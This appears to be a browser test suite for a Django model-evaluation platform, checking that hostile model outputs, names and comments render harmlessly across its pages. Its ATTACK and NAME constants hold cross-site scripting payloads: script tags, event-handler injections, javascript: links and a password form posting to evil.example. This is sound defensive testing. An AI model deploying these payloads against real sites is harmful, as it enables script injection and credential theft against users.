"""What a model wrote is harmless on every page that shows it."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from annotation.models import Unit
from annotation.services.assigning import next_task
from annotation.services.joining import seat_for
from annotation.services.submitting import Answer, submit
from concord.core.actors import BACKGROUND

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ATTACK = """Before <script>window.harmed = 1</script> after

<img src="https://evil.example/a.png" onerror="window.harmed = 2">
<svg onload="window.harmed = 3"></svg>
<style>body { display: none }</style>
</div></main></form><form action="https://evil.example/"><input name="password"></form>

[press here](javascript:window.harmed=4) [or here](data:text/html,<script>window.harmed=5</script>)
![remote](https://evil.example/pixel.png)

```html" onmouseover="window.harmed = 6
</code></pre><script>window.harmed = 7</script>
```

pay\u202eload {{ csrf_token }} {% csrf_token %}
"""
LONG_LINE = "x" * 1_000_000
NAME = '<script>window.harmed=8</script>"><img src=x onerror=window.harmed=9>'


@pytest.fixture
def watched(page: Any, refused: list[str]) -> Iterator[Any]:
    """A page that fails the test if anything ran, asked, left the site or was loaded from elsewhere."""
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    foreign: list[str] = []

    def keep_home(route: Any) -> None:
        foreign.append(route.request.url)
        route.abort()

    page.route(lambda url: "localhost" not in url and not url.startswith("data:"), keep_home)
    yield page
    assert foreign == []
    assert refused == []


@pytest.fixture
def hostile(make_study: Any, criteria: Any, other_rater: Any) -> Any:
    """Prompt, outputs, names, labels and instructions are all attacks; one rating is given, with an attack for its note."""
    criterion = criteria["helpful"]
    for label in criterion.labels:
        label["label"] = label["help"] = NAME
    criterion.name = criterion.question = criterion.help = NAME
    criterion.save()
    study = make_study(
        "side_by_side",
        ["helpful"],
        name=NAME,
        examples=2,
        texts=(ATTACK, LONG_LINE),
        prompt=ATTACK,
        instructions=ATTACK,
    )
    study.version.dataset.name = study.version.dataset.description = NAME
    study.version.dataset.save()
    study.version.examples.update(slices={NAME: NAME})
    for place, system in enumerate(study.systems.all()):
        system.name = f"{place} {NAME}"
        system.save()
    seat = seat_for(user=other_rater, study_id=study.pk)
    task = next_task(seat=seat)
    submit(seat=seat, key=task.key, answers={criterion.pk: Answer(None, NAME)}, comment=ATTACK)
    return study


def look(page: Any, url: str) -> None:
    response = page.goto(url)
    assert response.status == 200, (url, response.status)
    page.mouse.move(300, 300)
    assert page.evaluate("() => window.harmed") is None, url
    assert page.locator("form[action*='evil']").count() == 0, url
    assert page.locator("a[href^='javascript:'], a[href^='data:']").count() == 0, url
    assert page.locator("body").is_visible(), url


def test_on_the_rating_page(watched: Any, sign_in: Any, rater: Any, hostile: Any) -> None:
    sign_in(watched, rater)
    look(watched, "/rate/")
    look(watched, f"/rate/{hostile.pk}/")
    watched.keyboard.press("Escape")
    answers = watched.locator(".side")
    expect(answers.filter(has_text="Before <script>window.harmed = 1</script> after")).to_have_count(1)
    expect(answers.filter(has_text="U+202E")).to_have_count(1)
    for place in (1, 2):
        expect(watched.locator("#rate-count")).to_have_text(f"{place} of 2")
        watched.keyboard.press("3")
        watched.keyboard.press("Enter")
    expect(watched.locator(".rate-end")).to_be_visible()
    assert watched.evaluate("() => window.harmed") is None


def test_a_line_of_a_million_letters_wraps_and_does_not_hold_up_the_page(
    watched: Any, sign_in: Any, rater: Any, hostile: Any
) -> None:
    sign_in(watched, rater)
    watched.goto(f"/rate/{hostile.pk}/", wait_until="load", timeout=8000)
    widths = watched.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1]
    watched.keyboard.press("Escape")
    watched.get_by_text("more characters").click()
    assert watched.evaluate("() => document.documentElement.scrollWidth") <= widths[1]


@pytest.mark.parametrize(
    "name",
    [
        "study",
        "study-units",
        "study-unit",
        "dataset",
        "example",
        "systems",
        "criteria",
        "criterion",
        "studies",
        "datasets",
    ],
)
def test_on_the_pages_of_designers(
    watched: Any, sign_in: Any, designer: Any, rater: Any, hostile: Any, name: str
) -> None:
    url = reverse(name, kwargs={"workspace": hostile.workspace.slug, **arguments(name, hostile)})
    sign_in(watched, designer)
    look(watched, url)
    widths = watched.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1] + 1, f"{url} is wider than the screen"


def arguments(name: str, study: Any) -> dict[str, int]:
    unit = Unit.objects.filter(study=study).order_by("pk")[0]
    return {
        "study": {"pk": study.pk},
        "study-units": {"pk": study.pk},
        "study-unit": {"pk": study.pk, "unit": unit.pk},
        "dataset": {"pk": study.version.dataset_id},
        "example": {"pk": unit.example_id},
        "criterion": {"pk": study.study_criteria.get().criterion_id},
    }.get(name, {})


@pytest.fixture
def run_and_scorecard(hostile: Any, designer: Any, other_rater: Any, run_jobs: Any) -> tuple[Any, Any]:
    """A run that scores the hostile outputs, and a computed scorecard of the hostile study."""
    from concord.scorecards.services.defining import DimensionChoice
    from concord.scorecards.services.pictures import draw_pictures
    from concord.scorecards.services.scorecards import create_scorecard
    from concord.scorecards.services.snapshots import take_snapshot
    from evaluation.services.benchmarks import create_benchmark
    from evaluation.services.control import start
    from evaluation.services.planning import plan_run

    hostile.version.examples.update(reference=NAME)
    benchmark = create_benchmark(
        actor=designer, workspace=hostile.workspace, name=NAME, version=hostile.version
    )
    systems = list(hostile.systems.order_by("pk"))
    run, _ = [
        start(actor=designer, run=plan_run(actor=designer, benchmark=benchmark, system=system))
        for system in systems
    ]
    run_jobs()
    seat = seat_for(user=other_rater, study_id=hostile.pk)
    criterion = hostile.study_criteria.get().criterion
    while task := next_task(seat=seat):
        submit(seat=seat, key=task.key, answers={criterion.pk: Answer(2.0)}, comment=ATTACK)
    scorecard = create_scorecard(
        workspace=hostile.workspace,
        actor=designer,
        name=NAME,
        question=NAME,
        systems=systems,
        version=hostile.version,
        dimensions=[DimensionChoice(criterion=criterion, study=hostile, name=NAME[:100])],
    )
    draw_pictures(snapshot=take_snapshot(scorecard=scorecard))
    return run, scorecard


def test_on_the_pages_of_runs_and_scorecards(
    watched: Any, sign_in: Any, designer: Any, run_and_scorecard: tuple[Any, Any]
) -> None:
    run, scorecard = run_and_scorecard
    sign_in(watched, designer)
    pages = {
        "run": run.pk,
        "benchmark": run.benchmark_id,
        "system": run.system_id,
        "scorecard": scorecard.pk,
        "scorecard-edit": scorecard.pk,
    }
    for name, pk in pages.items():
        look(watched, reverse(name, kwargs={"workspace": "acme", "pk": pk}))
        if name in ("benchmark", "scorecard"):
            assert watched.get_by_role("img").count() > 0
        for summary in watched.locator("details:not([open]) > summary").all():
            if summary.is_visible():
                summary.click()
        assert watched.evaluate("() => window.harmed") is None, name
        page, screen = watched.evaluate(
            "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        assert page <= screen + 1, f"{name} is wider than the screen"


def test_on_the_pages_of_an_import(watched: Any, sign_in: Any, designer: Any, workspace: Any) -> None:
    import json

    from concord.catalog.importing import proposal
    from concord.catalog.services.importing import batches
    from concord.catalog.services.importing.uploads import store_upload

    rows = [
        {NAME: "q1", "model": NAME, "answer": ATTACK},
        {NAME: "q2", "model": "", "answer": LONG_LINE},
        {NAME: "q1", "model": NAME, "answer": "another answer to the same"},
    ]
    text = "\n".join(json.dumps(row) for row in rows).encode()
    file = store_upload(actor=BACKGROUND, workspace=workspace, source=text, name="answers.jsonl")
    batch = batches.create_import(actor=designer, workspace=workspace, file=file)
    mapping = proposal.propose(batch)
    mapping["records"] = [
        {
            "kind": "outputs",
            "fields": {
                "system": {"column": "model"},
                "example": {"column": NAME},
                "text": {"column": "answer"},
            },
        }
    ]
    mapping["dataset"] = NAME
    batches.set_mapping(actor=BACKGROUND, batch=batch, mapping=mapping)
    sign_in(watched, designer)
    url = reverse("import", kwargs={"workspace": "acme", "pk": batch.pk})
    look(watched, url)
    batches.start_check(actor=BACKGROUND, batch=batch)
    batches.check(batch_id=batch.pk)
    batch.refresh_from_db()
    assert batch.rejected == 2
    look(watched, url)
    page, screen = watched.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert page <= screen + 1


def test_an_image_is_seen_by_its_raters_and_by_nobody_else(
    watched: Any, sign_in: Any, rater: Any, stranger: Any, make_study: Any, page: Any
) -> None:
    import io

    from PIL import Image

    from concord.core.services.files import IMAGES, store

    study = make_study("scale", ["quality"], examples=1)
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(buffer, "PNG")
    file = store(workspace_id=study.workspace_id, source=buffer.getvalue(), name="teal.png", allowed=IMAGES)
    block = [{"type": "image", "file": file.pk, "alt": "a teal square"}]
    study.version.examples.update(content=block)
    sign_in(watched, rater)
    look(watched, f"/rate/{study.pk}/")
    shown = watched.get_by_alt_text("a teal square").first
    expect(shown).to_be_attached()
    assert shown.evaluate("image => image.complete && image.naturalWidth") == 40
    sign_in(watched, stranger)
    url = reverse("file", kwargs={"workspace": "acme", "pk": file.pk})
    assert watched.request.get(url).status == 404
